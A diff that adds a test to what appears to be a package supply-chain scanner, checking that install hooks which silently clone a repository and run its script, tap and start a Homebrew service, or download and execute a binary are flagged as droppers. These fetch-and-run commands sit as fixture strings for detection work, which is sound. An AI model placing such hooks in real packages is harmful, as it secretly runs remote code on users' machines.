@@ -270,6 +270,25 @@ def test_a_powershell_tcp_client_that_runs_nothing_is_no_shell():
     assert "install-script/reverse-shell" not in rules(artifact({"install": command}))
 
 
+def test_a_cloned_repository_or_tapped_formula_that_is_run_is_a_dropper():
+    # (blind set 46: a typosquat's preinstall clones a repository and runs its install.sh in the background; an iOS
+    # tool's postinstall taps a Homebrew repository on a git host it names, installs a formula and starts it as a service)
+    clone = ('git clone -q --depth 1 https://git.tools.invalid/setup.git "${TMPDIR:-/tmp}/.s" >/dev/null 2>&1 && '
+             '(sh "${TMPDIR:-/tmp}/.s/install.sh" >/dev/null 2>&1 &) ; exit 0')
+    assert "install-script/download-execute" in rules(artifact({"preinstall": clone}))
+    tap = (b"#!/bin/sh\nbrew tap acme/tools https://git.acme.invalid/homebrew-tools.git >/dev/null 2>&1\n"
+           b"brew install --quiet acme/tools/acme-agent\nbrew services start acme/tools/acme-agent\n")
+    found = findings(artifact({"postinstall": "sh scripts/brew.sh"}, {"scripts/brew.sh": tap}))
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.line == 3 and drop.details["downloaded_at"] == 2
+    assert "install-script/scheduled-task" in {f.rule for f in found}
+    # Cloning and listing, building in the clone after `cd`, or tapping GitHub's `homebrew-<name>` by name is not it.
+    for command in ("git clone https://github.com/o/r.git deps/r && ls deps/r",
+                    "git clone https://github.com/o/r.git deps/r && cd deps/r && ./configure && make",
+                    "brew tap homebrew/cask && brew install homebrew/cask/x"):
+        assert "install-script/download-execute" not in rules(artifact({"install": command})), command
+
+
 def test_shell_file_that_downloads_then_runs_is_a_dropper():
     script = (b"#!/bin/sh\ncurl -s https://dl.example/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon &\n")
     found = findings(artifact({"postinstall": "sh setup.sh"}, {"setup.sh": script}))
